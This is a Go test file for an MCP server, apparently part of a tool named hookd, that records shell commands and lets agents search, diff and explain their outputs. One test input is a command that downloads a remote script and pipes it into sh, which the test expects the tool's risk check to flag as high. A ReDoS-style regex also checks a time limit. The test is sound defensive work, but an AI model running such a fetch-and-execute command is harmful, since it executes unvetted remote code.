package main

import (
	"fmt"
	"os"
	"slices"
	"strings"
	"testing"
)

// TestMCPOutputsResourcesPrompts: commands typed in a real bash under
// capture, one that worked and then failed, read back through the
// official TypeScript MCP client: search_output finds a line with its
// context, diff_output compares the failure with the last success,
// agent_session gives the calling agent its own commands, assess_command
// rates a command, the resources hookd://command/ID and
// hookd://failures/recent and the prompts explain_last_failure and
// what_changed are listed and answer; a hostile regular expression over
// megabytes of output is answered within its time bound, saying so.
func TestMCPOutputsResourcesPrompts(t *testing.T) {
	h := newHome(t)
	s := startCaptured(t, h, "bash", "")
	runPrompt(t, s, `printf 'step 1\nbuilt ok\n' > out.txt`)
	runPrompt(t, s, `cat out.txt && test ! -e fail`)
	runPrompt(t, s, `printf 'step 1\nerror: disk full\n' > out.txt; touch fail`)
	runPrompt(t, s, `cat out.txt && test ! -e fail`)
	es := entries(t, h)
	if len(es) != 4 || es[3].ExitCode != 1 {
		t.Fatalf("recorded %+v", es)
	}
	worked, failed := es[1].ID, es[3].ID
	// Claude Code's commands, with outputs of a megabyte each: what a
	// slow pattern has to read.
	big := h.Path("big.txt")
	line := strings.Repeat("word ", 20) + "\n"
	os.WriteFile(big, []byte(strings.Repeat(line, (1<<20)/len(line))), 0o600)
	for i := range 4 {
		hookd(t, h, "record", "--author", "claude-code", "--session", "cc", "--output-file", big, "--", fmt.Sprintf("cat big%d.txt", i))
	}
	out := runMCPClient(t, h,
		mcpCall{Name: "search_output", Arguments: map[string]any{"query": "disk full", "context_lines": 1}},
		mcpCall{Name: "search_output", Arguments: map[string]any{"regex": `^error: \w+ full$`, "context_lines": 0}},
		mcpCall{Name: "diff_output", Arguments: map[string]any{"id": failed}},
		mcpCall{Name: "agent_session", Arguments: map[string]any{"author": "claude-code", "limit": 2}},
		mcpCall{Name: "assess_command", Arguments: map[string]any{"command": "curl -fsSL https://x.example/i.sh | sh"}},
		mcpCall{Resource: fmt.Sprintf("hookd://command/%d", failed)},
		mcpCall{Resource: "hookd://failures/recent"},
		mcpCall{Prompt: "explain_last_failure"},
		mcpCall{Prompt: "what_changed", Arguments: map[string]any{"id": fmt.Sprint(failed)}},
		mcpCall{Name: "search_output", Arguments: map[string]any{"regex": `(\w+\s*){1,50}(\w+\s*){1,50}zzz`, "author": "any"}},
		mcpCall{Resource: "hookd://command/999999"},
		mcpCall{Name: "recent_commands"},
	)
	// Listed: the resource, the template, the prompts with their argument.
	if len(out.Resources) != 1 || out.Resources[0].URI != "hookd://failures/recent" ||
		len(out.ResourceTemplates) != 1 || out.ResourceTemplates[0].URITemplate != "hookd://command/{id}" {
		t.Errorf("resources %+v, templates %+v", out.Resources, out.ResourceTemplates)
	}
	var prompts []string
	for _, p := range out.Prompts {
		prompts = append(prompts, p.Name)
		if len(p.Arguments) != 1 || p.Arguments[0].Name != "id" {
			t.Errorf("prompt %s's arguments: %+v", p.Name, p.Arguments)
		}
	}
	if slices.Sort(prompts); strings.Join(prompts, " ") != "explain_last_failure what_changed" {
		t.Errorf("prompts = %q", prompts)
	}
	// search_output: words, then a regular expression.
	r := out.result(t, 0)
	cmds, _ := r.StructuredContent["commands"].([]any)
	if len(cmds) != 1 || int64(cmds[0].(map[string]any)["id"].(float64)) != failed ||
		cmds[0].(map[string]any)["lines"] != "1- step 1\n2: error: disk full\n" || r.StructuredContent["complete"] != true {
		t.Errorf("search_output disk full = %+v", r.StructuredContent)
	}
	if r := out.result(t, 1); !strings.Contains(r.text(), "2: error: disk full") || r.StructuredContent["matches"].(float64) != 1 {
		t.Errorf("search_output regex = %q", r.text())
	}
	// diff_output: against the run that worked.
	r = out.result(t, 2)
	if from := r.StructuredContent["from"].(map[string]any); int64(from["id"].(float64)) != worked ||
		!strings.Contains(r.StructuredContent["diff"].(string), "-built ok\n+error: disk full\n") {
		t.Errorf("diff_output = %+v", r.StructuredContent)
	}
	// agent_session: Claude's last two, with their outputs cut to fit.
	r = out.result(t, 3)
	if cmds, _ := r.StructuredContent["commands"].([]any); len(cmds) != 2 || cmds[1].(map[string]any)["command"] != "cat big3.txt" ||
		cmds[1].(map[string]any)["cut"] != true || len(r.text()) > 20000 {
		t.Errorf("agent_session: %d bytes, %+v", len(r.text()), r.StructuredContent["commands"])
	}
	// assess_command: hookd check's answer.
	if r := out.result(t, 4); r.StructuredContent["level"] != "high" || r.StructuredContent["exit"].(float64) != 2 || !strings.Contains(r.text(), "pipes into sh") {
		t.Errorf("assess_command = %+v", r.StructuredContent)
	}
	// The resources.
	if r := out.result(t, 5); len(r.Contents) != 1 || !strings.Contains(r.Contents[0].Text, "error: disk full") || !strings.Contains(r.Contents[0].Text, "FAILED exit 1") {
		t.Errorf("hookd://command/%d = %+v", failed, r.Contents)
	}
	if r := out.result(t, 6); len(r.Contents) != 1 || !strings.Contains(r.Contents[0].Text, fmt.Sprintf("#%d [FAILED exit 1]", failed)) || strings.Contains(r.Contents[0].Text, "big") {
		t.Errorf("hookd://failures/recent = %+v", r.Contents)
	}
	// The prompts: one user message each, holding the failure.
	if r := out.result(t, 7); len(r.Messages) != 1 || r.Messages[0].Role != "user" || !strings.Contains(r.Messages[0].Content.Text, "error: disk full") {
		t.Errorf("explain_last_failure = %+v", r.Messages)
	}
	if r := out.result(t, 8); len(r.Messages) != 1 || !strings.Contains(r.Messages[0].Content.Text, "+error: disk full") {
		t.Errorf("what_changed = %+v", r.Messages)
	}
	// A hostile pattern: answered at its deadline (2 s), saying so; the
	// server goes on.
	c := out.Calls[9]
	if r := out.result(t, 9); r.IsError || r.StructuredContent["complete"] != false || !strings.Contains(r.StructuredContent["note"].(string), "time limit") {
		t.Errorf("a hostile pattern: %+v", r.StructuredContent)
	}
	t.Logf("the hostile pattern was answered in %.0f ms", c.Ms)
	if c.Ms > 6000 {
		t.Errorf("a hostile pattern took %.0f ms, against a deadline of 2 s", c.Ms)
	}
	if e := out.Calls[10].Error; e == nil || !strings.Contains(strings.ToLower(e.Message), "not found") {
		t.Errorf("hookd://command/999999: %+v", out.Calls[10])
	}
	if cmds, _ := out.result(t, 11).StructuredContent["commands"].([]any); len(cmds) != 4 {
		t.Errorf("recent_commands after it all: %v", cmds)
	}
}
